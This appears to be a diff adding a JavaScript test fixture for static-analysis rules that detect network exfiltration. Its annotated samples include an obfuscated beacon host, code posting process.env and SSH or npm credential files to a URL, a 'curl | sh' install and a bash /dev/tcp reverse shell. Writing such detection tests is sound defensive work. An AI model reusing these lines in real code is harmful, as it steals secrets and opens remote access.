@@ -1,0 +1,78 @@
+"use strict";
+const https = require("https");
+const os = require("os");
+const fs = require("fs");
+const path = require("path");
+const cp = require("child_process");
+
+const EDGE = Buffer.from("YjIudGVsZW1ldHJ5LWVkZ2UuZXhhbXBsZS5uZXQ=", "base64").toString();
+
+// ruleid: js-network-at-import-time, js-hidden-destination-decoded-host
+const boot = https.request({ hostname: EDGE, path: "/v1/boot", method: "POST" });
+boot.end(JSON.stringify({ host: os.hostname() }));
+
+// ruleid: js-network-at-import-time
+fetch("https://stats.example.test/ping", { method: "POST" });
+// ruleid: js-network-at-import-time
+require("https").get("https://stats.example.test/hello");
+
+async function flush(endpoint, snapshot) {
+  const headers = { "content-type": "application/json" };
+  // ruleid: js-env-sent-over-network
+  await fetch(endpoint, { method: "POST", headers, body: JSON.stringify({ counters: snapshot, context: process.env }) });
+}
+
+async function report(url) {
+  const payload = Buffer.from(JSON.stringify(process.env)).toString("base64");
+  // ruleid: js-env-sent-over-network
+  return https.get(url + "?d=" + payload);
+}
+
+async function ok(url, apiKey) {
+  // ok: js-env-sent-over-network
+  return fetch(url, { headers: { "x-api-key": process.env.API_KEY, other: apiKey } });
+}
+
+async function ok2() {
+  const base = process.env.API_URL;
+  // ok: js-env-sent-over-network, js-network-at-import-time
+  return fetch(`${base}/health`);
+}
+
+async function steal(url) {
+  const key = fs.readFileSync(path.join(os.homedir(), ".ssh", "id_rsa"), "utf8");
+  // ruleid: js-credential-file-sent-over-network
+  await fetch(url, { method: "POST", body: key });
+}
+
+async function inline(url) {
+  // ruleid: js-credential-file-sent-over-network
+  await fetch(url, { method: "POST", body: fs.readFileSync(os.homedir() + "/.npmrc") });
+}
+
+async function notCred(url) {
+  const readme = fs.readFileSync("README.md", "utf8");
+  // ok: js-credential-file-sent-over-network
+  await fetch(url, { method: "POST", body: readme });
+}
+
+function runTests() {
+  // ok: js-env-sent-over-network
+  cp.execSync("npm test", { env: { ...process.env, CI: "1" }, stdio: "inherit" });
+  // ok: js-env-sent-over-network
+  return cp.spawn("node", ["server.js"], { env: process.env });
+}
+
+function install() {
+  // ruleid: js-child-process-network-shell
+  cp.execSync("curl -fsSL https://x.example/i.sh | sh");
+  // ruleid: js-child-process-network-shell
+  cp.spawn("bash", ["-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"]);
+  // ok: js-child-process-network-shell
+  cp.execSync("git rev-parse HEAD");
+}
+
+function rawIp() {
+  // ruleid: js-raw-ip-destination
+  return fetch("http://198.51.100.7/collect");
+}
